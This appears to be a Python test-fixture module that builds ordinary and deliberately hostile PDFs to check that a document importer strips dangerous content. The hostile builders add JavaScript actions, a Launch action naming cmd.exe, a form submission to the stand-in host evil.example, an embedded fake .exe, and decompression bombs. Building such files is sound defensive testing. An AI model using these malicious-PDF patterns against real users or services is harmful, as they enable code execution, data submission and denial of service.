"""Files as people attach them, and as somebody might who means harm."""

from __future__ import annotations

import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image, ImageDraw
from reportlab.lib.utils import ImageReader
from reportlab.pdfgen.canvas import Canvas

from planstudio.domain.intake import FileFacts, FileKind
from planstudio.reports.foreign.imported import ImportedFile
from planstudio.reports.foreign.validation import proof

CANARY = "canaryThatMustBeGone"


def text_pages(count: int = 3, *, words: str = "Bids for the roof of Cedar School") -> bytes:
    """Pages of text without tags, as any program prints them."""
    out = BytesIO()
    canvas = Canvas(out, invariant=1)
    for page in range(count):
        for line in range(40):
            canvas.drawString(72, 720 - line * 15, f"{words}, page {page + 1}, line {line + 1}")
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def drawing(size: tuple[int, int] = (600, 800), mode: str = "RGB") -> Image.Image:
    """A picture with something in each corner, so that no turn goes unseen."""
    image = Image.new(mode, size, "white" if mode != "1" else 1)
    pen = ImageDraw.Draw(image)
    pen.rectangle((0, 0, size[0] // 3, size[1] // 5), fill="black" if mode in ("L", "1") else "red")
    pen.ellipse((size[0] // 2, size[1] // 2, size[0] - 5, size[1] - 5), outline="black")
    return image


def scan_pages(count: int = 2) -> bytes:
    """Pages that are pictures of paper."""
    out = BytesIO()
    canvas = Canvas(out, invariant=1)
    for _page in range(count):
        canvas.drawImage(ImageReader(drawing()), 0, 0, 612, 792)
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def together(*parts: bytes) -> bytes:
    """One file of several."""
    with pikepdf.new() as whole:
        for part in parts:
            with pikepdf.open(BytesIO(part)) as document:
                whole.pages.extend(document.pages)
        return saved(whole)


def saved(document: pikepdf.Pdf, **how: Any) -> bytes:
    out = BytesIO()
    document.save(out, **how)
    return out.getvalue()


def changed(pdf: bytes, change: Callable[[pikepdf.Pdf], None], **how: Any) -> bytes:
    """*pdf* after *change*."""
    with pikepdf.open(BytesIO(pdf)) as document:
        change(document)
        return saved(document, **how)


def content(*pages: bytes, resources: Dictionary | None = None) -> bytes:
    """A file whose pages hold just these operators; /F1 is Helvetica."""
    with pikepdf.new() as document:
        helvetica = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        for page in pages:
            document.add_blank_page(page_size=(612, 792))
            last = document.pages[-1]
            last.Contents = Stream(document, page)
            last.Resources = resources or Dictionary(Font=Dictionary(F1=helvetica))
        return saved(document)


def script(words: str = CANARY) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{words}')"))


def hostile() -> bytes:
    """Scripts, commands and enclosed files wherever a PDF can have them, all with the canary in them."""

    def spoil(document: pikepdf.Pdf) -> None:
        root, page = document.Root, document.pages[0]
        root.OpenAction = script()
        root.AA = Dictionary(WC=script())
        enclosed = document.make_stream(f"MZ {CANARY}".encode() * 50)
        enclosed.Type = Name.EmbeddedFile
        held = document.make_indirect(
            Dictionary(Type=Name.Filespec, F=String(CANARY + ".exe"), EF=Dictionary(F=enclosed))
        )
        root.Names = Dictionary(
            JavaScript=Dictionary(Names=Array([String("a"), document.make_indirect(script())])),
            EmbeddedFiles=Dictionary(Names=Array([String(CANARY), held])),
        )
        root.AF = Array([held])
        page.AA = Dictionary(O=script())
        page.PieceInfo = Dictionary(Evil=Dictionary(Private=String(CANARY)))
        page.obj.Metadata = document.make_stream(CANARY.encode())
        rect = Array([10, 10, 90, 40])

        def note(kind: str, **more: Any) -> Dictionary:
            return document.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name("/" + kind), Rect=rect, **more))

        opened = note("Popup", X=String(CANARY))
        chained = Dictionary(S=Name.URI, URI=String("https://heronlake.example/bids"), Next=script())
        wrong = Dictionary(S=Name.URI, URI=String(f"javascript:{CANARY}"))
        run = Dictionary(S=Name.Launch, F=String(CANARY), Win=Dictionary(F=String("cmd.exe")))
        page.obj.Annots = Array([
            note("Link", A=chained),
            note("Link", A=script()),
            note("Link", A=run),
            note("Link", A=wrong),
            note("Link", A=Dictionary(S=Name.GoToR, F=String(CANARY + ".pdf"), D=Array([0, Name.Fit]))),
            note("Link", A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/" + CANARY))),
            note("Text", Contents=String("A comment"), AA=Dictionary(E=script()), Popup=opened),
            note("Text", Contents=String(CANARY), F=2),
            note("FileAttachment", FS=held),
            note("RichMedia", RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("a"), held])))),
            note("Screen", A=Dictionary(S=Name.Rendition, JS=String(CANARY))),
        ])  # fmt: skip

    return changed(text_pages(2), spoil)


def form(*, xfa: bool = False) -> bytes:
    """A form with a filled field and a ticked box."""
    out = BytesIO()
    canvas = Canvas(out, invariant=1)
    canvas.drawString(72, 720, "Name of the bidder:")
    canvas.acroForm.textfield(name="bidder", value="Heron Roofing", x=72, y=680, width=200, height=24)
    canvas.acroForm.checkbox(name="bond", checked=True, x=72, y=640)
    canvas.save()

    def spoil(document: pikepdf.Pdf) -> None:
        fields = document.Root.AcroForm
        fields.Fields[0].AA = Dictionary(K=script())
        if xfa:
            fields.XFA = document.make_stream(f"<xdp>{CANARY}</xdp>".encode())

    return changed(out.getvalue(), spoil)


def bomb(million: int = 500) -> bytes:
    """A page whose content inflates to this many megabytes."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"0 0 m " * 200_000) for _ in range(million * 1_000_000 // 1_200_000))
    return _raw([
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>",
        (b"/Filter/FlateDecode", packed + packer.flush()),
    ])  # fmt: skip


def object_bomb(million: int = 500) -> bytes:
    """A file whose catalog stands in an object stream that inflates to this many megabytes."""
    packer = zlib.compressobj(9)
    first = b"1 0 2 30 3 80 ".ljust(20) + b"<</Type/Catalog/Pages 2 0 R>>".ljust(30)
    first += b"<</Type/Pages/Count 1/Kids[3 0 R]>>".ljust(50) + b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>"
    packed = packer.compress(first)
    packed += b"".join(packer.compress(b" " * 1_000_000) for _ in range(million))
    packed += packer.flush()
    head = b"%PDF-1.5\n"
    stream = b"4 0 obj\n<</Type/ObjStm/N 3/First 20/Filter/FlateDecode/Length %d>>\nstream\n%b\nendstream\nendobj\n"
    body = stream % (len(packed), packed)
    rows = [b"\0\0\0\0\0\0", *(b"\x02\0\0\0\x04" + bytes([n]) for n in range(3))]
    rows += [b"\x01" + len(head).to_bytes(4, "big") + b"\0", b"\x01" + len(head + body).to_bytes(4, "big") + b"\0"]
    table = b"".join(rows)
    cross = b"5 0 obj\n<</Type/XRef/W[1 4 1]/Size 6/Root 1 0 R/Length %d>>\nstream\n%b\nendstream\nendobj\n"
    return head + body + cross % (len(table), table) + b"startxref\n%d\n%%%%EOF\n" % len(head + body)


def _raw(objects: list[bytes | tuple[bytes, bytes]]) -> bytes:
    out, at, rows = [b"%PDF-1.4\n"], 9, []
    for number, body in enumerate(objects, 1):
        if not isinstance(body, bytes):
            body = b"<<%b/Length %d>>\nstream\n%b\nendstream" % (body[0], len(body[1]), body[1])
        rows.append(b"%010d 00000 n \n" % at)
        out.append(b"%d 0 obj\n%b\nendobj\n" % (number, body))
        at += len(out[-1])
    count = len(objects) + 1
    table = b"xref\n0 %d\n0000000000 65535 f \n%b" % (count, b"".join(rows))
    return b"".join(out) + table + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (count, at)


def loop() -> bytes:
    """A page tree that has itself as its kid."""
    return _raw([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[2 0 R]>>"])


def picture(image: Image.Image, kind: str = "PNG", **how: Any) -> bytes:
    out = BytesIO()
    image.save(out, kind, **how)
    return out.getvalue()


def bound(imported: ImportedFile) -> bytes:
    """A plain PDF of what was taken."""
    assert imported.fragment is not None, imported.facts
    return proof(imported.fragment)


def all_bytes(imported: ImportedFile) -> bytes:
    """Everything in a fragment, streams inflated and strings decoded: to look for what must not be there."""
    with pikepdf.open(BytesIO(bound(imported))) as document:
        found = []
        for each in document.objects:
            if isinstance(each, Stream):
                found.append(each.stream_dict.unparse(resolved=True))
                found.append(each.read_raw_bytes())
                if each.get("/Filter") == Name.FlateDecode:
                    found.append(each.read_bytes())
            elif isinstance(each, pikepdf.Object):
                found += [each.unparse(resolved=True), *_strings(each, 0)]
    return b"\n".join(found)


def _strings(value: Any, depth: int) -> list[bytes]:
    if isinstance(value, String):
        return [bytes(value), str(value).encode("utf-8", "replace")]
    if isinstance(value, (Dictionary, Array)) and depth < 20:
        kids = list(value.values()) if isinstance(value, Dictionary) else list(value)
        return [one for kid in kids if not getattr(kid, "is_indirect", False) for one in _strings(kid, depth + 1)]
    return []


def plain_facts() -> FileFacts:
    return FileFacts(FileKind.PLAIN, markup="text")
